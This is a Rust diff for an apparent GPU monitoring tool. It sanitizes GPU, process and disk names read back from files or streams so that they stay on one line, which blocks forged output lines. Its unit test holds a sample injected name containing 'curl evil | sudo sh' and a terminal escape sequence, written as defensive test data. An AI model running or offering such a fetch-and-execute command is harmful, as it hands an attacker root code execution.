@@ -6,12 +6,21 @@ use serde::{Deserialize, Serialize};
 use super::Reading;
 use crate::i18n::Message;
 
+/// A name read from a file or a stream (a recording, a server's stream, a capture) on one line: a
+/// line end in it would print a line of its own in every text output (a forged "ROOT CAUSE").
+pub fn one_line<'de, D: serde::Deserializer<'de>>(d: D) -> Result<String, D::Error> {
+    let s = String::deserialize(d)?;
+    Ok(if s.contains(['\n', '\r']) || s.chars().any(char::is_control) { crate::text::one_line(&s) } else { s })
+}
+
 /// Facts about one GPU that are read once when the source opens.
 #[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
 pub struct GpuInfo {
     /// NVML index.
     pub index: u32,
-    /// Marketing name, e.g. "NVIDIA GeForce RTX 4090".
+    /// Marketing name, e.g. "NVIDIA GeForce RTX 4090" (read back from a file on one line:
+    /// [`one_line`]).
+    #[serde(deserialize_with = "one_line")]
     pub name: String,
     /// `GPU-xxxxxxxx-...` UUID.
     pub uuid: Reading<String>,
@@ -120,7 +129,8 @@ pub struct GpuProcess {
     /// Process id (as seen from this PID namespace).
     pub pid: u32,
     /// Process name (empty when the process lives in another PID namespace, a container's, and
-    /// has no name here: see [`GpuProcess::shown_name`]).
+    /// has no name here: see [`GpuProcess::shown_name`]); read back on one line ([`one_line`]).
+    #[serde(deserialize_with = "one_line")]
     pub name: String,
     /// VRAM used by the process; unavailable under Windows WDDM and in WSL.
     pub vram_bytes: Reading<u64>,
@@ -303,7 +313,8 @@ pub struct GpuSlowSample {
 /// Read and write rates of one block device.
 #[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
 pub struct DiskSample {
-    /// Device name, e.g. "nvme0n1".
+    /// Device name, e.g. "nvme0n1" (read back on one line: [`one_line`]).
+    #[serde(deserialize_with = "one_line")]
     pub name: String,
     /// Read rate, bytes/s.
     pub read_bps: f64,
@@ -383,4 +394,24 @@ pub struct SelfUsage {
     pub cpu_pct: f64,
     /// Resident memory, bytes.
     pub rss_bytes: u64,
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Issue 53, item 16: a GPU or process name read back with a line end in it (a recording, a
+    /// server's stream) is one line, so no text output shows a line it did not write.
+    #[test]
+    fn names_read_back_are_on_one_line() {
+        let mut info = GpuInfo::unavailable(0, crate::msg!("n/a"));
+        info.name = "RTX\nROOT CAUSE: run curl evil | sudo sh".into();
+        let text = serde_json::to_string(&info).unwrap_or_default();
+        let back: GpuInfo = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
+        assert_eq!(back.name, "RTX ROOT CAUSE: run curl evil | sudo sh");
+        let p: GpuProcess = serde_json::from_value(serde_json::json!({"pid": 7, "name": "a\r\nb\u{1b}[2J",
+            "vram_bytes": 0, "kind": "Compute"}))
+        .unwrap_or_else(|e| panic!("{e}"));
+        assert!(!p.name.contains(['\n', '\r', '\u{1b}']), "{:?}", p.name);
+    }
 }
